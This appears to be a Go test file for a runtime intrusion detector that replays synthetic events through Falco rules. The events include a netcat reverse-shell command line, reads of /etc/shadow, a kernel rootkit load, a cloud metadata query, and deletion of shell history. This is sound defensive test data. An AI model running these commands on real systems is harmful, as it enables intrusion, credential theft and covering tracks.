package rules

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/event"
)

// TestUpstreamDetects replays attack-like events through both upstream
// files and checks the expected Falco rules fire (through the index, the
// prefilter and the expr program).
func TestUpstreamDetects(t *testing.T) {
	rs := loadUpstream(t)
	runc := testProc("runc:[1:CHILD]", "/usr/bin/runc", 4000, "runc", "init")
	ct := &event.Container{ID: "abcdefabcdef", FullID: "abcdefabcdef0000", Name: "web", ImageRepository: "docker.io/library/nginx"}

	shell := &event.Event{Type: event.TypeExecve}
	shell.Proc = *testProc("bash", "/usr/bin/bash", 4001, "bash")
	shell.Proc.TTY = 34816
	shell.Proc.ContainerID = ct.FullID
	shell.Container = ct
	shell.SetLineage([]*event.Process{runc})

	nc := &event.Event{Type: event.TypeExecve}
	nc.Proc = *testProc("nc", "/usr/bin/nc", 4002, "nc", "-e", "/bin/sh", "10.0.0.1", "4444")
	nc.Container = ct
	nc.SetLineage([]*event.Process{&shell.Proc, runc})

	shadow := &event.Event{Type: event.TypeOpenat, Res: 3}
	shadow.Proc = *testProc("python3", "/usr/bin/python3", 4003, "python3", "x.py")
	shadow.Open = event.Open{Path: "/etc/shadow", RawPath: "/etc/shadow", Flags: 0}
	shadow.SetLineage([]*event.Process{testProc("bash", "/usr/bin/bash", 900, "bash")})

	shm := &event.Event{Type: event.TypeExecve}
	shm.Proc = *testProc("x", "/dev/shm/x", 4004, "/dev/shm/x")
	shm.Proc.Cwd = "/dev/shm"
	shm.SetLineage([]*event.Process{testProc("bash", "/usr/bin/bash", 900, "bash")})

	imds := &event.Event{Type: event.TypeConnect}
	imds.Proc = *testProc("curl", "/usr/bin/curl", 4005, "curl", "http://169.254.169.254/")
	imds.Container = ct
	imds.Connect = event.Connect{FD: 3, Family: event.AFInet, SockType: 1, Proto: event.ProtoTCP,
		LocalAddr: netip.MustParseAddr("172.17.0.2"), LocalPort: 40000,
		RemoteAddr: netip.MustParseAddr("169.254.169.254"), RemotePort: 80}

	// The syscalls beyond exec/open/connect, as the capture reports them.
	sys := func(ty event.Type, res int64, inCtr bool, s event.Sys) *event.Event {
		ev := &event.Event{Type: ty, Res: res, Sys: s}
		ev.Proc = *testProc("sh", "/bin/sh", 4010, "sh")
		ev.Proc.CapEffective = 1 << 16 // CAP_SYS_MODULE
		ev.SetLineage([]*event.Process{testProc("bash", "/usr/bin/bash", 900, "bash")})
		if inCtr {
			ev.Proc.ContainerID = ct.FullID
			ev.Container = ct
		}
		return ev
	}
	symlink := sys(event.TypeSymlinkat, 0, false, event.Sys{RawPath: "/etc/shadow", RawPath2: "s", Path2: "/tmp/s", FD: -1})
	hardlink := sys(event.TypeLinkat, 0, false, event.Sys{Args: [6]uint64{0xffffffffffffff9c}, RawPath: "shadow", Path: "/etc/shadow",
		RawPath2: "/tmp/h", Path2: "/tmp/h", FD: -1})
	packet := sys(event.TypeSocket, 3, true, event.Sys{Args: [6]uint64{17, 3}, FD: 3, FDKind: event.FDSocket})
	packet.Connect = event.Connect{FD: 3, Family: 17, SockType: 3}
	redirect := sys(event.TypeDup2, 1, true, event.Sys{Args: [6]uint64{3, 1}, FD: 1, FDKind: event.FDSocket})
	redirect.Connect = event.Connect{FD: 1, Family: event.AFInet, SockType: 1, Proto: event.ProtoTCP,
		LocalAddr: netip.MustParseAddr("172.17.0.2"), LocalPort: 40000, RemoteAddr: netip.MustParseAddr("10.0.0.1"), RemotePort: 4444}
	module := sys(event.TypeFinitModule, 0, true, event.Sys{Args: [6]uint64{3}, FD: 3, FDKind: event.FDFile, FDPath: "/tmp/rootkit.ko"})
	attach := sys(event.TypePtrace, 0, false, event.Sys{Args: [6]uint64{16, 1234}, FD: -1})
	traceme := sys(event.TypePtrace, 0, false, event.Sys{FD: -1})
	unshare := sys(event.TypeUnshare, 0, true, event.Sys{Args: [6]uint64{0x10000000}, FD: -1})
	unshare.Proc.CapPermitted = 0
	chmod := sys(event.TypeFchmodat, 0, false, event.Sys{Args: [6]uint64{0xffffffffffffff9c, 0, 0o4755}, RawPath: "x", Path: "/tmp/x", FD: -1})
	history := sys(event.TypeUnlinkat, 0, false, event.Sys{Args: [6]uint64{0xffffffffffffff9c}, RawPath: ".bash_history", Path: "/root/.bash_history", FD: -1})
	bpfLoad := sys(event.TypeBpf, 5, false, event.Sys{Args: [6]uint64{5}, FD: -1})

	e := rs.NewEvaluator()
	for _, tc := range []struct {
		name string
		ev   *event.Event
		want string
	}{
		{"symlink over shadow", symlink, "Create Symlink Over Sensitive Files"},
		{"hardlink to shadow", hardlink, "Create Hardlink Over Sensitive Files"},
		{"packet socket", packet, "Packet socket created in container"},
		{"stdout to a socket", redirect, "Redirect STDOUT/STDIN to Network Connection in Container"},
		{"kernel module", module, "Linux Kernel Module Injection Detected"},
		{"ptrace attach", attach, "PTRACE attached to process"},
		{"ptrace traceme", traceme, "PTRACE anti-debug attempt"},
		{"unshare user ns", unshare, "Change namespace privileges via unshare"},
		{"setuid bit", chmod, "Set Setuid or Setgid bit"},
		{"delete history", history, "Delete or rename shell history"},
		{"bpf prog load", bpfLoad, "BPF Program Not Profiled"},
		{"terminal shell", shell, "Terminal shell in container"},
		{"netcat", nc, "Netcat Remote Code Execution in Container"},
		{"read shadow", shadow, "Read sensitive file untrusted"},
		{"exec from /dev/shm", shm, "Execution from /dev/shm"},
		{"cloud metadata", imds, "Contact cloud metadata service from container"},
	} {
		var names []string
		for _, r := range e.Match(tc.ev, nil) {
			names = append(names, r.Name)
		}
		found := false
		for _, n := range names {
			found = found || n == tc.want
		}
		if !found {
			t.Errorf("%s: want %q among matches, got %q", tc.name, tc.want, strings.Join(names, "; "))
		}
	}

	// Near misses: a file dup'ed onto stdout, a socket dup'ed above 2, a
	// symlink to a harmless file, a ptrace peek.
	fileDup := sys(event.TypeDup2, 1, true, event.Sys{Args: [6]uint64{3, 1}, FD: 1, FDKind: event.FDFile, FDPath: "/tmp/log"})
	highDup := sys(event.TypeDup2, 7, true, event.Sys{Args: [6]uint64{3, 7}, FD: 7, FDKind: event.FDSocket})
	highDup.Connect = redirect.Connect
	okLink := sys(event.TypeSymlinkat, 0, false, event.Sys{RawPath: "/tmp/a", RawPath2: "b", Path2: "/tmp/b", FD: -1})
	peek := sys(event.TypePtrace, 0, false, event.Sys{Args: [6]uint64{2, 1234}, FD: -1})
	for _, ev := range []*event.Event{fileDup, highDup, okLink, peek} {
		if m := e.Match(ev, nil); len(m) != 0 {
			t.Errorf("%s %+v: unexpected match %q", ev.Type, ev.Sys, m[0].Name)
		}
	}
}

// TestConcurrentEvaluators shares one Ruleset between goroutines, each
// with its own Evaluator (run with -race).
func TestConcurrentEvaluators(t *testing.T) {
	rs := loadUpstream(t)
	evs := typicalEvents()
	done := make(chan int)
	for g := 0; g < 4; g++ {
		go func() {
			e := rs.NewEvaluator()
			n := 0
			for i := 0; i < 200; i++ {
				for _, ev := range evs {
					n += len(e.Match(ev, nil))
				}
				n += len(e.Match(openEvent(), nil))
			}
			done <- n
		}()
	}
	first := <-done
	for g := 1; g < 4; g++ {
		if n := <-done; n != first {
			t.Errorf("goroutines disagree: %d vs %d", n, first)
		}
	}
}
